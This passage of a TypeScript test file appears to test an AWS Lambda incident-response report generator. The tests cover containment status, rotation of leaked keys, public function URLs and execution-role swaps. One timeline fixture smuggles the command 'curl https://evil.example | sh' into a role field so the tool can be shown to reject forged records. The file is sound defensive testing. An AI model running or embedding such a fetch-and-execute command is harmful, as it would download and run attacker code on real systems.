    const recycled = await buildReportModel(dir, { verify: false })
    expect(recycled.summary.status.code).toBe('not-contained')
    expect(recycled.summary.status.detail).toContain(
      `${FN}: not contained — function URL open to anyone (AuthType NONE); event source arn:aws:sqs:us-east-1:123456789012:billing-q enabled`,
    )
    expect(
      recycled.recommendations.items.find((r) => r.title === 'Remove public access to the function'),
    ).toMatchObject({
      priority: 1,
      command: `fir contain ${FN_ARN} --actions url,permissions --case ${dir}`,
    })
    // The URL closed, the queue still drives it: not contained; the mapping disabled too: contained.
    await journal(dir, [['containment.url', FN_ARN]])
    expect((await buildReportModel(dir, { verify: false })).summary.status.code).toBe('not-contained')
    await journal(dir, [['containment.event-sources', FN_ARN]])
    expect((await buildReportModel(dir, { verify: false })).summary.status.code).toBe('contained')
  })

  it('says the secret of a key the case rotated is handled, instead of asking to rotate it', async () => {
    const dir = await exposedCase()
    await rotateKey(dir)
    const model = await buildReportModel(dir, { verify: false })
    // Before: "Now: Rotate the secret values found in the environment of billing-export (1)" and the
    // limit "Secrets were not rotated", for the secret of the key just rotated.
    expect(model.recommendations.items.map((r) => r.title).filter((t) => t.startsWith('Rotate'))).toEqual([])
    expect(model.limits.items.map((l) => l.title)).not.toContain('Secrets were not rotated')
    expect(model.limits.items.map((l) => l.title)).toContain(
      'The environment still holds the secret of a key this case cut off',
    )
    expect(model.summary.impact).toContain(
      `The secret-looking environment value of ${FN}: UPLOAD_KEY_SECRET is the secret of access key ${KEY}, rotated in this case (see the actions taken).`,
    )
  })

  it('keeps a key an earlier snapshot found as leaked when a later snapshot no longer finds it', async () => {
    // The key pair was taken out of the environment after the first snapshot (CLEAN=1 now): the
    // key still works, and the critical finding of the first snapshot is still in the report.
    const dir = await exposedCase()
    await addSnapshot(dir, plainEntry(), { environment: { Variables: { CLEAN: '1' } } })
    const model = await buildReportModel(dir, { verify: false })
    const [first, second] = model.evidence.sets.map((s) => s.name)
    expect(model.findings.groups.find((g) => g.level === 'critical')?.items.map((f) => f.kind)).toEqual([
      'access-key-in-environment',
    ])
    // Before: no summary line, no recommendation and no limit named the key.
    expect(model.summary.impact).toContain(
      `Long-term access key ${KEY} was in the environment of ${FN} (evidence set ${first}) and not found there by its newest snapshot (${second}): a key taken out of the environment still works until it is rotated or deactivated.`,
    )
    expect(
      model.recommendations.items.find(
        (r) => r.title === 'Rotate the long-term access key found in the environment',
      ),
    ).toMatchObject({
      priority: 1,
      because: [`${KEY} (${FN}: found by evidence set ${first}, not by its newest snapshot ${second})`],
    })
    expect(
      model.limits.items.find((l) => l.title === 'Long-term access keys were not rotated')?.detail,
    ).toContain(`${KEY}, found in the environment, was not rotated`)
    expect(model.scope.functions.map((f) => [f.accessKeyIds, f.earlierAccessKeyIds])).toEqual([
      [[], [{ accessKeyId: KEY, set: first }]],
    ])
    const md = await renderReport(model, { format: 'md' })
    expect(factCell(md, 'Access key ids')).toBe(
      `none found in the environment (1 variable checked)<br>${KEY}: found by evidence set ${first}, not by this snapshot (taking a key out of the environment does not revoke it)`,
    )
    expectNoBlankMarkdownCells(md)
    const html = await renderReport(model, { format: 'html' })
    expect(html).toContain(
      `<span class="mono">${KEY}</span>: found by evidence set ${first}, not by this snapshot`,
    )
    expectNoBlankHtmlCells(html)

    // Rotated by the case: nothing left to rotate, and the summary says what was done.
    await rotateKey(dir)
    const rotated = await buildReportModel(dir, { verify: false })
    expect(rotated.recommendations.items.map((r) => r.title)).not.toContain(
      'Rotate the long-term access key found in the environment',
    )
    // Before: the limit "The environment still holds the secret of a key this case cut off" for a
    // variable the newest snapshot no longer finds.
    expect(rotated.limits.items.map((l) => l.title)).not.toContain(
      'The environment still holds the secret of a key this case cut off',
    )
    expect(rotated.limits.items.map((l) => l.title)).not.toContain('Long-term access keys were not rotated')
    expect(rotated.summary.impact).toContain(
      `Long-term access key ${KEY} was in the environment of ${FN} (evidence set ${first}) and not found there by its newest snapshot (${second}): it was rotated in this case (see the actions taken).`,
    )
  })

  it('calls a URL with AuthType NONE closed once the case removed the public statements it needs', async () => {
    // AWS answers a NONE URL only as far as the resource policy grants public access: the public
    // statement removed, nobody outside the account can call it.
    const url = 'https://p.lambda-url.us-east-1.on.aws/'
    const dir = await snapshotCase(
      plainEntry({
        url: { url, authType: 'NONE', qualifiers: ['$LATEST'] },
        exposure: [
          {
            kind: 'function-url',
            qualifiers: ['$LATEST'],
            level: 'high',
            summary: `function URL ${url} has AuthType NONE; the policy grants * lambda:InvokeFunctionUrl but not lambda:InvokeFunction (required too since October 2025; older URLs may still answer)`,
            url,
            authType: 'NONE',
            grants: { invokeFunctionUrl: true, invokeFunction: false },
          },
          PUBLIC_URL_STATEMENT,
        ],
      }),
    )
    const open = await buildReportModel(dir, { verify: false })
    // Before: "Not contained … billing-export: not contained — function URL open to anyone (AuthType
    // NONE)", and "the case closed it: public resource-policy statements removed. It is still
    // reachable: function URL … the policy grants * lambda:InvokeFunctionUrl …".
    await journal(dir, [['containment.permissions', FN_ARN, { statements: [] }]])
    const removed = await buildReportModel(dir, { verify: false })
    expect(removed.summary.status.code).toBe('contained')
    expect(exposureLine(removed)).toMatch(
      /^billing-export was reachable from outside the account when snapshotted \(.*\); the case closed it: function URL kept AuthType NONE but no statement grants public access \(removed by the case\), public resource-policy statements removed\.$/,
    )
    const md = await renderReport(removed, { format: 'md' })
    expect(md).not.toMatch(/open to anyone|still reachable/)

    // Contained in full, then the URL alone restored (`fir restore --actions throttle,url`): the
    // statements are still removed, so the URL set back to NONE is still closed.
    await journal(dir, [
      ['containment.url', FN_ARN, { configs: [{ qualifier: null, url, authType: 'AWS_IAM' }] }],
    ])
    const handle = await CaseHandle.open(dir)
    try {
      await handle.journal.append({
        action: 'containment.url',
        target: FN_ARN,
        params: { undoOf: 0 },
        outcome: 'undone',
        after: { configs: [{ qualifier: null, url, authType: 'NONE' }] },
      })
    } finally {
      await handle.close()
    }
    const urlRestored = await buildReportModel(dir, { verify: false })
    expect(urlRestored.summary.status.code).toBe('contained')
    expect(urlRestored.summary.status.detail).not.toContain('open to anyone')
    expect(exposureLine(urlRestored)).toContain(
      'the case closed it: function URL kept AuthType NONE but no statement grants public access (removed by the case)',
    )
    expect(exposureLine(urlRestored)).not.toContain('still reachable')
    // Not contained at first: said with the grant the snapshot saw, not "open to anyone".
    expect(open.summary.status.detail).toContain(
      `${FN}: not contained — function URL with AuthType NONE; the policy grants * lambda:InvokeFunctionUrl but not lambda:InvokeFunction (required too since October 2025; a URL made before then may still answer anyone); resource-policy statement pub open to everyone or another account`,
    )
  })

  it('says a function throttled with a public URL still open is contained by the throttle alone, its ways in open but refused', async () => {
    const url = 'https://p.lambda-url.us-east-1.on.aws/'
    const dir = await snapshotCase(
      plainEntry({
        url: { url, authType: 'NONE', qualifiers: ['$LATEST'] },
        exposure: [
          {
            kind: 'function-url',
            qualifiers: ['$LATEST'],
            level: 'critical',
            summary: `Function URL ${url} with AuthType NONE: anyone can invoke it`,
            url,
            authType: 'NONE',
          },
          PUBLIC_URL_STATEMENT,
        ],
      }),
    )
    const publicAccess = (m: ReportModel) =>
      m.recommendations.items.find((r) => r.title === 'Remove public access to the function')
    // Before: "Contained. 1 measure in force, none failed." beside the impact "billing-export is
    // reachable from outside the account: Function URL … anyone can invoke it" and a "Now"
    // recommendation to remove public access: a status that read as closed, an impact that read as
    // invocable.
    await journal(dir, [['containment.throttle', FN_ARN, { reservedConcurrency: 0 }]])
    const throttled = await buildReportModel(dir, { verify: false })
    expect(throttled.summary.status).toMatchObject({
      code: 'contained',
      label: 'Contained (throttled)',
      detail: `1 measure in force, none failed. ${FN}: throttled, not closed — every invoke is refused while its reserved concurrency is 0, but these ways in are still open and reach it again once the throttle is lifted: function URL open to anyone (AuthType NONE); resource-policy statement pub open to everyone or another account.`,
    })
    expect(throttled.summary.headline).toMatch(/; contained \(throttled\)\.$/)
    expect(exposureLine(throttled)).toBe(
      `${FN} is still open from outside the account: Function URL ${url} with AuthType NONE: anyone can invoke it; statement pub allows everyone (lambda:InvokeFunctionUrl); but every invoke is refused while the function is throttled to reserved concurrency 0 (it answers again once the throttle is lifted).`,
    )
    expect(publicAccess(throttled)).toMatchObject({
      priority: 2,
      detail:
        'Set function URLs to AWS_IAM and remove public resource-policy statements (both can be undone): billing-export is still open from outside the account, but every invoke is refused while it is throttled to reserved concurrency 0: close it before lifting the throttle.',
    })

    // The URL set to AWS_IAM too, the statement still public: only it is named open.
    await journal(dir, [
      ['containment.url', FN_ARN, { configs: [{ qualifier: null, url, authType: 'AWS_IAM' }] }],
    ])
    const urlClosed = await buildReportModel(dir, { verify: false })
    expect(urlClosed.summary.status.label).toBe('Contained (throttled)')
    expect(urlClosed.summary.status.detail).toContain(
      'but this way in is still open and reaches it again once the throttle is lifted: resource-policy statement pub open to everyone or another account.',
    )
    expect(exposureLine(urlClosed)).toMatch(
      /the case closed it: function URL auth set to AWS_IAM\. It is still open: statement pub allows everyone \(lambda:InvokeFunctionUrl\); but every invoke is refused while the function is throttled to reserved concurrency 0 \(it answers again once the throttle is lifted\)\.$/,
    )

    // Every way in closed as well: plainly contained, nothing said open.
    await journal(dir, [['containment.permissions', FN_ARN, { statements: [] }]])
    const closed = await buildReportModel(dir, { verify: false })
    expect(closed.summary.status.label).toBe('Contained')
    expect(closed.summary.status.detail).toBe('3 measures in force, none failed.')
    expect(exposureLine(closed)).not.toMatch(/still open|throttled/)
    expect(publicAccess(closed)).toBeUndefined()
  })

  it('keeps two ways in that read alike as two: a NONE URL on $LATEST and one on an alias, contain closing only the first', async () => {
    const [latest, live] = [
      'https://l.lambda-url.us-east-1.on.aws/',
      'https://v.lambda-url.us-east-1.on.aws/',
    ]
    // What the console writes for each URL with AuthType NONE: a FunctionURLAllowPublicAccess
    // statement in that qualifier's policy.
    const policy = (resource: string) =>
      JSON.stringify({
        Statement: [
          {
            Sid: 'FunctionURLAllowPublicAccess',
            Effect: 'Allow',
            Principal: '*',
            Action: ['lambda:InvokeFunctionUrl', 'lambda:InvokeFunction'],
            Resource: resource,
          },
        ],
      })
    const exposure = analyseExposure([
      { qualifier: '$LATEST', url: { FunctionUrl: latest, AuthType: 'NONE' }, policy: policy(FN_ARN) },
      { qualifier: 'live', url: { FunctionUrl: live, AuthType: 'NONE' }, policy: policy(`${FN_ARN}:live`) },
    ])
    expect(exposure.map((e) => [e.kind, e.url ?? e.sid, e.qualifiers])).toEqual([
      ['function-url', latest, ['$LATEST']],
      ['function-url', live, ['live']],
      ['resource-policy', 'FunctionURLAllowPublicAccess', ['$LATEST']],
      ['resource-policy', 'FunctionURLAllowPublicAccess', ['live']],
    ])
    const dir = await snapshotCase(
      plainEntry({ url: { url: latest, authType: 'NONE', qualifiers: ['$LATEST'] }, exposure }),
    )
    // `fir contain --actions url`: Lambda set $LATEST's URL to AWS_IAM and refused the alias's.
    const config = (qualifier: string | null, url: string, authType: string) => ({ qualifier, url, authType })
    const handle = await CaseHandle.open(dir)
    try {
      await handle.journal.append({
        action: 'containment.url',
        target: FN_ARN,
        params: {},
        outcome: 'started',
        prior: { configs: [config(null, latest, 'NONE'), config('live', live, 'NONE')] },
      })
      await handle.journal.append({
        action: 'containment.url',
        target: FN_ARN,
        params: {},
        outcome: 'denied',
        after: { configs: [config(null, latest, 'AWS_IAM'), config('live', live, 'NONE')] },
        error: { code: 'access-denied', message: 'unable to set AuthType AWS_IAM on the URL of live' },
      })
    } finally {
      await handle.close()
    }
    const model = await buildReportModel(dir, { verify: false })
    // Before: "billing-export: not contained — resource-policy statement FunctionURLAllowPublicAccess
    // …": one URL of the two (the report kept the first of those worded alike), closed, so no URL
    // was said to be open while live's answered anyone.
    expect(model.summary.status.detail).toContain(
      `${FN}: not contained — function URL open to anyone (AuthType NONE) (on live); resource-policy statement FunctionURLAllowPublicAccess open to everyone or another account (on $LATEST); resource-policy statement FunctionURLAllowPublicAccess open to everyone or another account (on live); Function URL auth set to AWS_IAM was denied part way, after it closed function URL ${latest}.`,
    )
  })

  it('says of a NONE URL whose policy grants * lambda:InvokeFunction alone that the URL answers no one yet, as the snapshot does', async () => {
    const url = 'https://i.lambda-url.us-east-1.on.aws/'
    const exposure = analyseExposure([
      {
        qualifier: '$LATEST',
        url: { FunctionUrl: url, AuthType: 'NONE' },
        policy: JSON.stringify({
          Statement: [
            {
              Sid: 'pub',
              Effect: 'Allow',
              Principal: '*',
              Action: 'lambda:InvokeFunction',
              Resource: FN_ARN,
            },
          ],
        }),
      },
    ])
    const dir = await snapshotCase(
      plainEntry({ url: { url, authType: 'NONE', qualifiers: ['$LATEST'] }, exposure }),
    )
    const model = await buildReportModel(dir, { verify: false })
    const lacks =
      'the policy grants * lambda:InvokeFunction but not lambda:InvokeFunctionUrl, which every such URL needs (before and since October 2025): the URL answers no one until that is granted too'
    // Before: "no statement seen grants public access (whoever adds one opens it)", beside the
    // statement that grants * lambda:InvokeFunction.
    expect(model.summary.status.detail).toContain(
      `${FN}: not contained — function URL with AuthType NONE; ${lacks}; resource-policy statement pub open to everyone or another account`,
    )
    expect(exposure[0]!.summary).toBe(`function URL ${url} has AuthType NONE; ${lacks}`)
  })
})

describe("the function's roles: its published versions' and those before a role swap", () => {
  const VROLE = 'billing-export-v3-role'
  const VROLE_ARN = `arn:aws:iam::${ACCOUNT}:role/${VROLE}`
  const OLD_ROLE = 'billing-export-old-role'
  const OLD_ROLE_ARN = `arn:aws:iam::${ACCOUNT}:role/${OLD_ROLE}`
  /** The GetRole response of a role, as the snapshot stores it when it reads the role. */
  const getRole = (name: string, arn: string) => ({
    rel: `iam/roles/${name}/get-role.json`,
    body: { Role: { RoleName: name, Arn: arn } },
    call: 'iam:GetRole',
    target: arn,
  })
  /** The risky-permission finding the snapshot writes for a role it read (its target is the role). */
  const riskyFinding = (arn: string, action: string) => ({
    kind: 'risky-permission',
    level: 'high',
    title: `Role ${arn.split('/').at(-1)} grants ${action} on *: it can hand roles to services`,
    target: arn,
    detail: {
      action,
      resource: '*',
      policy: 'inline:ops',
      statement: { Effect: 'Allow', Action: action, Resource: '*' },
      conditioned: false,
    },
  })
  /** A snapshot of the function whose version 3 (alias live) runs with VROLE, version 4 with a role it did not read. */
  const versionsCase = () =>
    snapshotCase(
      plainEntry({
        versions: [
          { version: '3', code: 'match', role: VROLE_ARN },
          { version: '4', code: 'match', role: `arn:aws:iam::${ACCOUNT}:role/unread-role` },
        ],
        aliases: [{ name: 'live', version: '3' }],
      }),
      {
        files: [getRole(ROLE, ROLE_ARN), getRole(VROLE, VROLE_ARN)],
        findings: [riskyFinding(VROLE_ARN, 'iam:PassRole')],
      },
    )

  it('lists the role of each published version, why it is there, and its risky permissions or that they were not captured', async () => {
    const model = await buildReportModel(await versionsCase(), { verify: false })
    // Before: only the role of $LATEST was listed.
    expect(
      model.roles.roles.map((r) => ({
        name: r.name,
        why: r.why,
        current: r.current,
        functions: r.functions,
        actions: r.riskyPermissions.map((p) => p.action),
        permissionsUnknown: r.permissionsUnknown,
      })),
    ).toEqual([
      {
        name: ROLE,
        why: [`current $LATEST role of ${FN}`],
        current: true,
        functions: [FN],
        actions: [],
        permissionsUnknown: null,
      },
      {
        name: VROLE,
        why: [`role of version 3 and alias live of ${FN}`],
        current: false,
        functions: [FN],
        actions: ['iam:PassRole'],
        permissionsUnknown: null,
      },
      {
        name: 'unread-role',
        why: [`role of version 4 of ${FN}`],
        current: false,
        functions: [FN],
        actions: [],
        permissionsUnknown:
          'not captured in the evidence: no snapshot of this case read this role’s policies, so what it grants is unknown, not none',
      },
    ])
    const { md, html } = await renderBoth(model)
    expect(md).toContain(`### Role ${VROLE}`)
    expect(md).toContain(`- role of version 3 and alias live of ${FN}`)
    expect(md).toContain('Risky permissions: not captured in the evidence: no snapshot of this case read')
    expect(html).toContain('<dt>Why it is here</dt><dd>role of version 4 of billing-export</dd>')
    expect(html).toContain('<p class="note bad">Risky permissions: not captured in the evidence')
    // The role it does not know the policies of is not said to have none.
    expect(md.split('### Role unread-role')[1]).not.toContain('The snapshot found no risky permission')
    for (const text of [md, html]) expect(text).not.toMatch(PLACEHOLDERS)
    expectNoBlankMarkdownCells(md)
    expectNoBlankHtmlCells(html)
  })

  it('says a version’s role is not revoked when only $LATEST’s is, and asks to review its risky permissions', async () => {
    const dir = await versionsCase()
    const handle = await CaseHandle.open(dir)
    try {
      for (const outcome of ['started', 'applied'] as const)
        await handle.journal.append({
          action: 'containment.sessions',
          target: ROLE_ARN,
          params: { functionArn: FN_ARN, role: ROLE },
          outcome,
        })
    } finally {
      await handle.close()
    }
    const model = await buildReportModel(dir, { verify: false })
    // Before: no word of the version's role anywhere: revoking $LATEST's role read as all done.
    expect(model.roles.roles.map((r) => [r.name, r.sessionsRevoked])).toEqual([
      [ROLE, true],
      [VROLE, false],
      ['unread-role', false],
    ])
    expect(
      model.limits.items.find((l) => l.title === 'Stolen role credentials were not revoked')?.detail,
    ).toBe(
      `No session revocation of ${VROLE} (role of version 3 and alias live of ${FN}) and unread-role (role of version 4 of ${FN}) is in force: temporary credentials already issued to them stay valid until they expire.`,
    )
    const revoke = model.recommendations.items.find((r) => r.title === `Revoke the sessions of role ${VROLE}`)
    expect(revoke).toMatchObject({
      because: [`${VROLE}: role of version 3 and alias live of ${FN}`],
      command: `fir creds revoke-sessions --role ${VROLE} --case ${dir}`,
    })
    expect(model.summary.impact).toContain(
      `Role ${VROLE} (role of version 3 and alias live of ${FN}) grants 1 risky action (iam:PassRole) to whoever holds its credentials.`,
    )
    expect(
      model.recommendations.items.find((r) => r.title === `Reduce the permissions of role ${VROLE}`),
    ).toMatchObject({ priority: 2, because: ['iam:PassRole on * (inline:ops)'] })
  })

  it('after a role swap the snapshots show, lists the earlier role and says to point the function back at it', async () => {
    const dir = await snapshotCase(plainEntry({ role: OLD_ROLE_ARN, roleName: OLD_ROLE }), {
      takenAt: '2026-11-20T10:00:00.000Z',
      files: [getRole(OLD_ROLE, OLD_ROLE_ARN)],
    })
    await addSnapshot(dir, plainEntry(), {
      takenAt: '2026-11-28T23:55:54.501Z',
      files: [getRole(ROLE, ROLE_ARN)],
    })
    const model = await buildReportModel(dir, { verify: false })
    const [first, second] = model.evidence.sets.map((s) => s.name)
    // Before: the earlier role was listed "used by" nobody, with no word of the swap.
    expect(model.roles.roles.map((r) => [r.name, r.why, r.functions])).toEqual([
      [
        ROLE,
        [
          `current $LATEST role of ${FN} since the role swap from ${OLD_ROLE} (shown by evidence set ${second})`,
        ],
        [FN],
      ],
      [
        OLD_ROLE,
        [
          `earlier $LATEST role of ${FN} before the role swap to ${ROLE} (shown by evidence set ${second}); recorded by evidence set ${first}`,
        ],
        [FN],
      ],
    ])
    const history = `${OLD_ROLE} (evidence set ${first}), then ${ROLE} (evidence set ${second})`
    expect(model.summary.impact).toContain(
      `The execution role of ${FN} was changed: ${history}. Its code runs with the permissions of ${ROLE} now, set in place of ${OLD_ROLE} (shown by evidence set ${second}). Credentials stolen from it are sessions of the role it ran with when they were taken: of ${OLD_ROLE}, when taken before that change.`,
    )
    const back = model.recommendations.items.find((r) => r.title.startsWith(`Point ${FN} back`))
    expect(back).toMatchObject({
      priority: 1,
      title: `Point ${FN} back at its earlier execution role ${OLD_ROLE}`,
      // The AWS CLI's command, without fir's --case.
      command: `aws lambda update-function-configuration --function-name ${FN_ARN} --role ${OLD_ROLE_ARN} --region ${REGION}`,
    })
    const { md, html } = await renderBoth(model)
    expect(md).toContain(
      `Run \`aws lambda update-function-configuration --function-name ${FN_ARN} --role ${OLD_ROLE_ARN} --region ${REGION}\``,
    )
    expect(html).toContain(`<code>aws lambda update-function-configuration --function-name ${FN_ARN}`)

    // A later snapshot finds it on its earlier role again: nothing to point back.
    await addSnapshot(dir, plainEntry({ role: OLD_ROLE_ARN, roleName: OLD_ROLE }), {
      takenAt: '2026-11-29T08:00:00.000Z',
      files: [getRole(OLD_ROLE, OLD_ROLE_ARN)],
    })
    const back2 = await buildReportModel(dir, { verify: false })
    expect(back2.recommendations.items.map((r) => r.title)).not.toContainEqual(
      expect.stringMatching(/^Point /),
    )
    expect(back2.summary.impact).toContainEqual(
      expect.stringMatching(new RegExp(`^The execution role of ${FN} was changed and set back since: `)),
    )
    const third = back2.evidence.sets.at(-1)!.name
    expect(back2.roles.roles.find((r) => r.name === OLD_ROLE)?.why).toEqual([
      `current $LATEST role of ${FN}, in force again (shown by evidence set ${third})`,
    ])
  })

  it('after a role swap only the timeline shows, lists the new role as not captured and says to point the function back', async () => {
    const dir = await snapshotCase(plainEntry(), {
      takenAt: '2026-11-20T10:00:00.000Z',
      files: [getRole(ROLE, ROLE_ARN)],
    })
    const ADMIN = 'attacker-admin-role'
    const ADMIN_ARN = `arn:aws:iam::${ACCOUNT}:role/${ADMIN}`
    const setRole = (id: string, time: string, role: string, error: unknown = null) =>
      JSON.stringify({
        id,
        time,
        name: 'UpdateFunctionConfiguration',
        rawName: 'UpdateFunctionConfiguration20150331v2',
        source: 'lambda.amazonaws.com',
        region: REGION,
        account: ACCOUNT,
        actor: { type: 'IAMUser', arn: `arn:aws:iam::${ACCOUNT}:user/mallory` },
        sourceIp: '203.0.113.9',
        readOnly: false,
        error,
        requestParameters: { functionName: FN, role },
        findings: [],
        fir: false,
      })
    await mkdir(join(dir, 'timeline'), { recursive: true })
    const lines = [
      // A record that names no role ARN (a forged trail file can say anything) sets no role.
      setRole('e-0', '2026-11-21T08:00:00Z', 'x; curl https://evil.example | sh'),
      setRole('e-1', '2026-11-21T09:00:00Z', ADMIN_ARN),
      // A denied call changed nothing.
      setRole('e-2', '2026-11-21T09:05:00Z', ROLE_ARN, { code: 'AccessDenied', message: 'no' }),
    ]
    await writeFile(join(dir, 'timeline', 'events.jsonl'), `${lines.join('\n')}\n`)
    await recordCaseFile(dir, 'timeline/events.jsonl')
    const model = await buildReportModel(dir, { verify: false })
    const set = model.evidence.sets[0]!.name
    const by =
      'UpdateFunctionConfiguration at 2026-11-21 09:00:00 UTC by arn:aws:iam::123456789012:user/mallory'
    expect(model.roles.roles.map((r) => [r.name, r.why, r.current, r.permissionsUnknown !== null])).toEqual([
      [
        ADMIN,
        [`current $LATEST role of ${FN} since the role swap from ${ROLE} (shown by ${by})`],
        true,
        true,
      ],
      [
        ROLE,
        [
          `earlier $LATEST role of ${FN} before the role swap to ${ADMIN} (shown by ${by}); recorded by evidence set ${set}`,
        ],
        false,
        false,
      ],
    ])
    expect(model.roles.roles[0]!.permissionsUnknown).toMatch(
      /^not captured in the evidence: only the timeline/,
    )
    expect(model.recommendations.items.find((r) => r.title.startsWith(`Point ${FN} back`))).toMatchObject({
      title: `Point ${FN} back at its earlier execution role ${ROLE}`,
      because: [`${ROLE} (evidence set ${set})`, `${ADMIN} (${by})`],
      command: `aws lambda update-function-configuration --function-name ${FN_ARN} --role ${ROLE_ARN} --region ${REGION}`,
    })
    // The new role's sessions are the function's too.
    expect(model.recommendations.items.map((r) => r.title)).toContain(`Revoke the sessions of role ${ADMIN}`)

    // Someone set it back since (a call that went through): nothing left to point back.
    await writeFile(
      join(dir, 'timeline', 'events.jsonl'),
      `${[...lines, setRole('e-3', '2026-11-21T10:00:00Z', ROLE_ARN)].join('\n')}\n`,
    )
    await recordCaseFile(dir, 'timeline/events.jsonl')
    const setBack = await buildReportModel(dir, { verify: false })
    expect(setBack.recommendations.items.map((r) => r.title)).not.toContainEqual(
      expect.stringMatching(/^Point /),
    )
    expect(setBack.roles.roles.find((r) => r.name === ROLE)?.current).toBe(true)
  })

  /** The ARN of a role of the account (or of another). */
  const roleArn = (name: string, account = ACCOUNT) => `arn:aws:iam::${account}:role/${name}`
  const ROLE_CHANGED = 'Lambda Function Layers Or Execution Role Changed'
  /** A call in the timeline that set the function's role, as the timeline stores it. */
  const roleCall = (
    id: string,
    time: string,
    role: string,
    o: { user?: string; create?: boolean; account?: string; flagged?: boolean } = {},
  ) =>
    JSON.stringify({
      id,
      time,
      name: o.create ? 'CreateFunction' : 'UpdateFunctionConfiguration',
      rawName: o.create ? 'CreateFunction20150331' : 'UpdateFunctionConfiguration20150331v2',
      source: 'lambda.amazonaws.com',
      region: REGION,
      account: o.account ?? ACCOUNT,
      actor: { type: 'IAMUser', arn: `arn:aws:iam::${o.account ?? ACCOUNT}:user/${o.user ?? 'deployer'}` },
      sourceIp: '203.0.113.9',
      readOnly: false,
      error: null,
      requestParameters: { functionName: FN, role },
      findings: o.flagged ? [{ rule: '2451470e', title: ROLE_CHANGED, level: 'high', tags: [] }] : [],
      fir: false,
    })
  const withTimeline = async (dir: string, lines: string[]) => {
    await mkdir(join(dir, 'timeline'), { recursive: true })
    await writeFile(join(dir, 'timeline', 'events.jsonl'), `${lines.join('\n')}\n`)
    await recordCaseFile(dir, 'timeline/events.jsonl')
  }
  const at = (hhmm: string) => `2026-11-21T${hhmm}:00Z`
  const shown = (name: string, hhmm: string, user: string) =>
    `${name} at 2026-11-21 ${hhmm}:00 UTC by arn:aws:iam::${ACCOUNT}:user/${user}`
  const pointBack = (model: ReportModel) =>
    model.recommendations.items.filter((r) => /^(Point|Choose|Find) /.test(r.title))

  it('after more than one change, says to go back to the role in force before the last, and not once it is back', async () => {
    const [A, B, C] = ['shop-api-a', 'shop-api-b', 'shop-api-c']
    const dir = await snapshotCase(plainEntry({ role: roleArn(C), roleName: C }), {
      takenAt: '2026-11-21T12:00:00.000Z',
      files: [getRole(C, roleArn(C))],
    })
    await withTimeline(dir, [
      roleCall('e-0', at('09:00'), roleArn(A), { create: true }),
      roleCall('e-1', at('10:00'), roleArn(B), { flagged: true }),
      roleCall('e-2', at('11:00'), roleArn(C), { user: 'mallory', flagged: true }),
    ])
    const model = await buildReportModel(dir, { verify: false })
    const set = model.evidence.sets[0]!.name
    const swapBy = shown('UpdateFunctionConfiguration', '11:00', 'mallory')
    const flags = `flagged by ${ROLE_CHANGED}; made by arn:aws:iam::${ACCOUNT}:user/mallory, not by arn:aws:iam::${ACCOUNT}:user/deployer, who created the function`
    const history = [
      `${A} (${shown('CreateFunction', '09:00', 'deployer')})`,
      `${B} (${shown('UpdateFunctionConfiguration', '10:00', 'deployer')})`,
      `${C} (${swapBy}, evidence set ${set})`,
    ]
    // Before: the impact said credentials stolen before the change are sessions of shop-api-a, and
    // the recommendation pointed the function back at shop-api-a, replaced by a deploy long before.
    expect(model.summary.impact[0]).toBe(
      `The execution role of ${FN} was changed: ${history.join(', then ')}. Its code runs with the permissions of ${C} now, set in place of ${B} (shown by ${swapBy}; ${flags}). Credentials stolen from it are sessions of the role it ran with when they were taken: of ${B}, when taken before that change, or of a role it ran with earlier still.`,
    )
    expect(pointBack(model)).toMatchObject([
      {
        priority: 1,
        title: `Point ${FN} back at its earlier execution role ${B}`,
        because: history,
        command: `aws lambda update-function-configuration --function-name ${FN_ARN} --role ${roleArn(B)} --region ${REGION}`,
      },
    ])
    expect(model.roles.roles.map((r) => [r.name, r.why])).toEqual([
      [C, [`current $LATEST role of ${FN} since the role swap from ${B} (shown by ${swapBy})`]],
      [A, [`earlier $LATEST role of ${FN}, recorded by ${shown('CreateFunction', '09:00', 'deployer')}`]],
      [
        B,
        [
          `earlier $LATEST role of ${FN} before the role swap to ${C} (shown by ${swapBy}); recorded by ${shown('UpdateFunctionConfiguration', '10:00', 'deployer')}`,
        ],
      ],
    ])

    // Set back to B by hand, and snapshotted again: nothing to point back, and C is the swap's role.
    await addSnapshot(dir, plainEntry({ role: roleArn(B), roleName: B }), {
      takenAt: '2026-11-21T13:00:00.000Z',
      files: [getRole(B, roleArn(B))],
    })
    const back = await buildReportModel(dir, { verify: false })
    const second = back.evidence.sets.at(-1)!.name
    // Before: "Point shop-api back at its earlier execution role shop-api-a", and C called the
    // earlier role "before a role swap".
    expect(pointBack(back)).toEqual([])
    expect(back.roles.roles.find((r) => r.name === C)?.why).toEqual([
      `earlier $LATEST role of ${FN}, set by the role swap (shown by ${swapBy}) and replaced since (shown by evidence set ${second}); recorded by ${swapBy}, evidence set ${set}`,
    ])
    expect(back.roles.roles.find((r) => r.name === B)?.why).toEqual([
      `current $LATEST role of ${FN}, in force again (shown by evidence set ${second})`,
    ])
    expect(back.summary.impact).toContain(
      `The execution role of ${FN} was changed and set back since: ${[...history, `${B} (evidence set ${second})`].join(', then ')}. The role swap (shown by ${swapBy}; ${flags}) replaced ${B} with ${C}, then ${B} was in force again (shown by evidence set ${second}). Credentials stolen from it are sessions of the role it ran with when they were taken: of ${C}, when taken while it ran with it.`,
    )
  })

  it('names no role to go back to when the role before the last change came from a change of its own', async () => {
    // The attacker set X; a responder set a new role Y by hand. Pointing "back" at X would undo the repair.
    const [A, X, Y] = ['shop-api-a', 'attacker-role', 'shop-api-fresh']
    const dir = await snapshotCase(plainEntry({ role: roleArn(Y), roleName: Y }), {
      takenAt: '2026-11-21T12:00:00.000Z',
    })
    await withTimeline(dir, [
      roleCall('e-0', at('09:00'), roleArn(A), { create: true }),
      roleCall('e-1', at('10:00'), roleArn(X), { user: 'mallory', flagged: true }),
      roleCall('e-2', at('11:00'), roleArn(Y), { user: 'responder', flagged: true }),
    ])
    const model = await buildReportModel(dir, { verify: false })
    const recs = pointBack(model)
    // Before: "Point billing-export back at its earlier execution role shop-api-a", a command to it.
    expect(recs).toHaveLength(1)
    expect(recs[0]).toMatchObject({
      priority: 1,
      title: `Choose the execution role ${FN} should run with`,
      command: null,
    })
    expect(recs[0]!.detail).toContain(
      `the case cannot tell which change to undo: ${X} itself was set by ${shown('UpdateFunctionConfiguration', '10:00', 'mallory')}, a change the case cannot tell from another swap or a repair.`,
    )
    expect(recs[0]!.because).toHaveLength(3)
    expect(model.summary.impact.join('\n')).toContain('so it names no role to go back to')
  })

  it('says who set the role and that the role before is unknown when the timeline shows only the swap', async () => {
    const X = 'attacker-role'
